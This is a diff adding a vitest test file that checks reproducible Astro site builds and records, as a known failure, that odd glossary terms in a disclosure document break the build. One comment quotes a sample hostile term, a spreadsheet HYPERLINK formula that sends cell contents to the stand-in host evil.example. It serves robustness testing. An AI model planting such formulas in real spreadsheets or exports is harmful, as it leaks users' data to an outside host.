@@ -1,0 +1,53 @@
+import { execFileSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, relative, resolve } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { HOSTILE_SLUG, hostileDocument } from '../fixtures/hostile/hostile-disclosure.ts';
+
+/** Builds of the site outside dist/: reproducibility, and what a hostile document can do to the build itself. */
+const work = mkdtempSync(join(tmpdir(), 'hostile-build-'));
+afterAll(() => rmSync(work, { recursive: true, force: true }));
+
+function build(outDir: string, contentDir?: string): void {
+  const env = { ...process.env, ASTRO_TELEMETRY_DISABLED: '1', ...(contentDir ? { CONTENT_DIR: contentDir } : {}) };
+  execFileSync(resolve('node_modules/.bin/node'), [resolve('node_modules/astro/bin/astro.mjs'), 'build', '--outDir', outDir], { env, stdio: ['ignore', 'ignore', 'pipe'] });
+  execFileSync(resolve('node_modules/.bin/node'), ['scripts/index-search.ts', outDir], { stdio: ['ignore', 'ignore', 'pipe'] });
+}
+
+function hashes(dir: string, root = dir): Record<string, string> {
+  const out: Record<string, string> = {};
+  for (const name of readdirSync(dir).sort()) {
+    const path = join(dir, name);
+    if (statSync(path).isDirectory()) Object.assign(out, hashes(path, root));
+    else out[relative(root, path)] = createHash('sha256').update(readFileSync(path)).digest('hex');
+  }
+  return out;
+}
+
+describe('site builds', () => {
+  it('gives a byte-identical dist/ (every file, search index included) on two builds of the same content', () => {
+    const first = join(work, 'first');
+    const second = join(work, 'second');
+    build(first);
+    build(second);
+    const a = hashes(first);
+    expect(Object.keys(a).length).toBeGreaterThan(20);
+    expect(Object.keys(a).some((f) => f.startsWith('pagefind/'))).toBe(true);
+    const b = hashes(second);
+    const differing = Object.keys({ ...a, ...b }).filter((f) => a[f] !== b[f]);
+    expect(differing).toEqual([]);
+  }, 300_000);
+
+  // Build-breaking input (src/pages/glossary/[term].astro, getStaticPaths): the raw glossary term is the route
+  // parameter, so a term with `?`, `#`, `/` or `%` (here `=HYPERLINK("http://evil.example/?d="&A1,"详情")`, but an
+  // innocent `收入/支出` is enough) fails the whole build with "Missing parameter: term" (checked for both). One odd term in one document
+  // takes the site down. Remove `.fails` once term pages use a route-safe slug.
+  it.fails('builds a disclosure whose glossary terms contain ? # / and %', () => {
+    const content = join(work, 'raw-terms');
+    mkdirSync(content);
+    writeFileSync(join(content, `${HOSTILE_SLUG}.json`), JSON.stringify(hostileDocument(false)));
+    build(join(work, 'raw-terms-out'), content);
+  }, 300_000);
+});
